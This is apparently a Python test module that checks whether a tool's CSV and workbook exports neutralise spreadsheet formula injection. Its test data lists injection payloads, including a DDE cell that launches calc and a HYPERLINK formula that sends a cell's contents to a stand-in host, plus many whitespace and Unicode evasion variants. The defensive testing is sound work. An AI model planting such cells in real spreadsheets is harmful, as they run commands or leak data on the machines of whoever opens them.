"""Cells that a spreadsheet would run, exported as CSV and as a workbook, opened again, and none of them runs."""

import csv
import json
import re
import tempfile
from collections.abc import Iterator
from io import StringIO
from pathlib import Path
from zipfile import ZipFile

from msgspec.structs import replace
from openpyxl import load_workbook

from tests.builders import a_mention, a_project, an_action
from tests.faults.metric import Metric
from workbench.desk.session import Session
from workbench.exchange import read_back
from workbench.project import Project

CELLS = (
    "=1+1",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"open\")",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "\n@SUM(1)",
    "\ttab first",
    "\rline end first",
    " =1+1",
    "\u00a0=1+1",
    "\u2003\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u22121+1",
    "\"=1+1\"",
    "quiet;=1+1;quiet",
    "quiet;\"=1+1\";quiet",
    "quiet\r\n=1+1;quiet",
    "quiet\t=1+1",
    "'=1+1",
)  # fmt: skip
_SEEN = re.compile(r'[^\s"\x00-\x1f\u200b\ufeff\u202e]')
_LIVE = frozenset("=+-@＝＋－＠\u2212")


def formulas() -> Metric:
    """Exports a reading with all the cells as notes and one with them as words, in both formats."""
    with tempfile.TemporaryDirectory() as folder:
        faults = (*_faults(_project(Path(folder))),)
    what = "cells that would be formulas: none runs when opened again, all words restored, the labelled set unchanged"
    return Metric("C5", what, f"{len(CELLS)} cells x 2 formats, {len(faults)} live or lost", "0", not faults, faults)


def _project(folder: Path) -> Project:
    text = " | ".join(CELLS)
    project = a_project(folder, {"0012": text})
    put, after = {}, ""
    for number, cell in enumerate(CELLS):
        mention = a_mention(text, cell, after=after)
        after = text[: mention.end]
        put[f"m-{number}"] = replace(mention, note=cell)
    Session(project, "ana").act(an_action(project.article("0012"), "add", put))
    return project


def _faults(project: Project) -> Iterator[str]:
    labelled = project.export().path.read_bytes()
    words = {row["quote"]: row["note"] for row in json.loads(labelled)["mentions"]}
    if list(words) != list(CELLS) or list(words.values()) != list(CELLS):
        yield "the labelled set does not hold the words as they are"
    csvs = project.export_tables(project.folder / "csv", "csv").files
    (workbook,) = project.export_tables(project.folder / "xlsx", "xlsx").files
    yield from (f"{file.name}: {cell!r} is live" for file in csvs for cell in _live_in_csv(file))
    yield from _live_in_workbook(workbook)
    for place in (project.folder / "csv", workbook):
        back = read_back(place)["mentions"]
        if back["quote"].tolist() != list(CELLS) or back["note"].tolist() != list(CELLS):
            yield f"{place.name}: the words do not come back as they were"
        if set(back["article"]) != {"0012"}:
            yield f"{place.name}: the id 0012 is another"
    if project.export().path.read_bytes() != labelled:
        yield "the labelled set was changed by exporting tables"


def _live_in_csv(file: Path) -> Iterator[str]:
    """Cells that begin like a formula, whatever the reader takes for the separator; numbers stand without marks."""
    text = file.read_bytes().decode("utf-8-sig")
    for separator in ",;\t":
        for row in csv.reader(StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                seen = _SEEN.search(cell)
                if (seen and seen[0] in _LIVE) or cell[:1] in {"\t", "\r", "\n"}:
                    yield cell


def _live_in_workbook(file: Path) -> Iterator[str]:
    for sheet in load_workbook(file):
        for row in sheet.iter_rows():
            yield from (f"{file.name}: {cell.value!r} is live" for cell in row if cell.data_type in {"f", "e"})
    with ZipFile(file) as parts:
        sheets = [name for name in parts.namelist() if name.startswith("xl/worksheets/")]
        yield from (f"{file.name}: {name} has a formula" for name in sheets if b"<f" in parts.read(name))


METRICS = {"C5": formulas}
